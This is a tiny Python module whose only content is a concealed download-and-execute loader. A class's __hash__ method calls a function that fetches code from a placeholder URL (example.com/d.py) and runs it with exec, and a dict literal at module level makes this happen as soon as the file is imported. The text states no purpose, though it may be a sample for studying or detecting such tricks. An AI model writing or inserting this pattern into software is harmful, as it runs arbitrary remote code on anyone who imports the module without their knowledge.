import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __hash__(self):
        _go()
        return 1


X = {A(): 1}
